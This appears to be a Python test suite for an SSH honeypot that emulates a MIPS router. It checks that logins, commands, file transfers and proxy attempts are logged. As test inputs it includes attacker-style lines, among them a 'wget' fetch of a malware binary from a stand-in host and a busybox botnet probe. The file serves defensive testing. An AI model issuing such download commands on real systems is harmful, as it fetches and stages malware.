"""A persona's SSH: OpenSSH's clients, nmap, and what is written down of them."""

import hashlib
import os
import re
import subprocess

from harness import LIMIT_S, Sensor, Terminal, check, equal, run, wait_until

PAYLOAD = b"#!/bin/sh\n# Komainu was here: this is a text file and nothing else.\n" + bytes(range(256)) * 40
OPTIONS = [
    "-F", os.devnull, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
    "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1",
]  # fmt: skip


def ssh(sensor, *arguments, program="ssh", password="admin", input=b"", options=()):
    """Runs one of OpenSSH's programs with a password until its session is over; gives its status and what it said."""
    before = sessions(sensor)
    port = "-p" if program == "ssh" else "-P"
    command = ["sshpass", "-p", password, program, port, str(sensor.port(22)), *OPTIONS, *options, *arguments]
    done = subprocess.run(command, input=input, capture_output=True, timeout=LIMIT_S, check=False)
    last(sensor, before)
    return done.returncode, done.stdout, done.stderr


def ended(sensor, count):
    """The summaries of all SSH sessions, once there are so many."""

    def look():
        lines = [x for x in sensor.lines("honeypot.json") if x["event_type"] == "honeypot"]
        lines = [x for x in lines if x.get("app_proto") == "ssh"]
        return len(lines) >= count and [x["honeypot"] for x in lines]

    return wait_until(f"{count} sessions", look)


def sessions(sensor):
    return len([x for x in sensor.lines("honeypot.json") if x["event_type"] == "honeypot"])


def last(sensor, before):
    """The summary of the session that began after `before` had ended."""
    return ended(sensor, before + 1)[-1]


@check
def a_command(sensor):
    before = sessions(sensor)
    status, said, _ = ssh(sensor, "admin@127.0.0.1", "uname -m; /bin/busybox KOMAINU")
    equal((status, said), (127, b"mips\nKOMAINU: applet not found\n"))
    summary = last(sensor, before)
    equal([(one["user"], one["accepted"]) for one in summary["auth"]], [("admin", True)])
    equal([one["line"] for one in summary["commands"]], ["uname -m; /bin/busybox KOMAINU"])
    equal(len(summary["fingerprints"]["hassh"]), 32, summary)
    equal("OpenSSH" in summary["fingerprints"]["ssh_client"], True, summary)


@check
def a_command_with_input(sensor):
    before = sessions(sensor)
    status, said, _ = ssh(sensor, "admin@127.0.0.1", "cat > /tmp/x; wc -c < /tmp/x", input=PAYLOAD)
    equal((status, said.strip()), (0, str(len(PAYLOAD)).encode()))
    summary = last(sensor, before)
    artifact = summary["artifacts"][0]
    equal((artifact["name"], artifact["bytes"]), ("/tmp/x", len(PAYLOAD)))
    equal(sensor.artifact(hashlib.sha256(PAYLOAD).hexdigest()), PAYLOAD)


@check
def a_wrong_password(sensor):
    before = sessions(sensor)
    status, _, said = ssh(sensor, "root@127.0.0.1", "id", password="not-this-one-0815")
    equal(status != 0, True, said)
    summary = last(sensor, before)
    equal([(one["user"], one["accepted"]) for one in summary["auth"]], [("root", False)])
    equal("not-this-one-0815" in (sensor.data / "sensor/honeypot.json").read_text(), False)


@check
def a_key(sensor):
    before = sessions(sensor)
    key = sensor.folder / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True, timeout=LIMIT_S)
    shown = subprocess.run(["ssh-keygen", "-lf", key], capture_output=True, text=True, check=True, timeout=LIMIT_S).stdout
    command = ["ssh", "-p", str(sensor.port(22)), "-F", os.devnull, "-o", "StrictHostKeyChecking=no"]
    command += ["-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-i", key, "root@127.0.0.1", "id"]
    equal(subprocess.run(command, capture_output=True, timeout=LIMIT_S, check=False).returncode, 255)
    auth = last(sensor, before)["auth"]
    equal([(one["mechanism"], one["key"], one["accepted"]) for one in auth], [("publickey", shown.split()[1], False)])


@check
def a_terminal(sensor):
    before = sessions(sensor)
    command = ["sshpass", "-p", "admin", "ssh", "-tt", "-p", str(sensor.port(22)), *OPTIONS, "admin@127.0.0.1"]
    terminal = Terminal(command)
    terminal.until(b"~ # ")
    terminal.enter(b"cd /tmp && echo $((6*7))")
    equal(b"\r\n42\r\n" in terminal.until(b"/tmp # "), True)
    terminal.enter(b"wget http://192.0.2.9/bins/k.mips")
    terminal.until(b"/tmp # ")
    terminal.enter(b"exit 3")
    equal(terminal.wait(), 3)
    summary = last(sensor, before)
    equal([one["line"] for one in summary["commands"]][0], "cd /tmp && echo $((6*7))")
    equal(summary["urls"][0]["url"], "http://192.0.2.9/bins/k.mips")


def uploads(sensor, via, *options):
    before = sessions(sensor)
    local, back = sensor.folder / f"{via}.bin", sensor.folder / f"{via}.back"
    contents = via.encode() + PAYLOAD * 30
    local.write_bytes(contents)
    sha256 = hashlib.sha256(contents).hexdigest()
    equal(ssh(sensor, *options, str(local), "admin@127.0.0.1:/tmp/k", program="scp")[0], 0)
    summary = last(sensor, before)
    artifact = summary["artifacts"][0]
    equal((artifact["via"], artifact["name"], artifact["sha256"], artifact["stored"]), (via, "/tmp/k", sha256, True))
    equal(len(summary["artifacts"]), 1, summary)
    equal(sensor.artifact(sha256), contents)
    status, _, said = ssh(sensor, *options, "admin@127.0.0.1:/bin/busybox", str(back), program="scp")
    equal((status, back.read_bytes()[:4]), (0, b"\x7fELF"), said)
    status, _, said = ssh(sensor, *options, str(local), "admin@127.0.0.1:/bin/k", program="scp")
    equal((status != 0, b"Read-only" in said or b"ermission denied" in said), (True, True), said)


@check
def scp_as_it_was(sensor):
    uploads(sensor, "scp_upload", "-O")


@check
def scp_over_sftp(sensor):
    uploads(sensor, "sftp_upload")


@check
def sftp(sensor):
    local = sensor.folder / "x.sh"
    local.write_bytes(PAYLOAD)
    batch = f"mkdir /tmp/d\nput {local} /tmp/d/a\nrename /tmp/d/a /tmp/d/b\nchmod 755 /tmp/d/b\nls -l /tmp/d\n"
    batch += f"get /tmp/d/b {sensor.folder}/b\nrm /tmp/d/b\nrmdir /tmp/d\npwd\n"
    options = ("-o", "BatchMode=no", "-b", "-")
    status, said, errors = ssh(sensor, *options, "admin@127.0.0.1", program="sftp", input=batch.encode())
    equal(status, 0, errors)
    equal((sensor.folder / "b").read_bytes(), PAYLOAD)
    equal(re.search(rb"-rwxr-xr-x .* (/tmp/d/)?b\n", said) is not None, True, said)
    equal(b"Remote working directory: /root" in said, True, said)


@check
def a_proxy_is_refused(sensor):
    before = sessions(sensor)
    status, _, said = ssh(sensor, "-W", "192.0.2.7:25", "admin@127.0.0.1")
    equal(status != 0, True, said)
    equal(last(sensor, before)["notes"], ["proxy_request"])
    notes = [x["note"] for x in sensor.lines("honeypot.json") if x["event_type"] == "note"]
    equal({"what": "proxy_request", "detail": "192.0.2.7:25"} in notes, True, notes)


@check
def old_clients(sensor):
    for options in (
        ["-o", "KexAlgorithms=diffie-hellman-group14-sha1", "-o", "MACs=hmac-sha1", "-o", "Ciphers=aes128-ctr"],
        ["-o", "KexAlgorithms=diffie-hellman-group1-sha1", "-o", "HostKeyAlgorithms=ssh-rsa"],
        ["-o", "HostKeyAlgorithms=rsa-sha2-256", "-o", "KexAlgorithms=ecdh-sha2-nistp256", "-o", "Ciphers=aes256-ctr"],
    ):
        status, said, errors = ssh(sensor, "admin@127.0.0.1", "echo old", options=options)
        equal((status, said), (0, b"old\n"), (options, errors))


@check
def nmap_sees_the_algorithms(sensor):
    port = str(sensor.port(22))
    command = ["nmap", "-Pn", "-sV", "-p", port, "--script", "ssh2-enum-algos,ssh-auth-methods", "127.0.0.1"]
    said = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
    for word in ("Dropbear sshd 2020.81", "curve25519-sha256", "diffie-hellman-group14-sha1", "ssh-ed25519", "password"):
        equal(word in said, True, f"{word}: {said}")


@check
def a_restart_shows_the_same_keys(sensor):
    def keys():
        command = ["ssh-keyscan", "-t", "rsa,ed25519", "-p", str(sensor.port(22)), "127.0.0.1"]
        done = subprocess.run(command, capture_output=True, text=True, timeout=LIMIT_S, check=True)
        return sorted(line.split(None, 1)[1] for line in done.stdout.splitlines())

    before = keys()
    equal(len(before), 2, before)
    sensor.stop()
    sensor.start()
    equal(keys(), before)


run(Sensor, persona="router", configuration='[sensor]\nid = "check"\n')
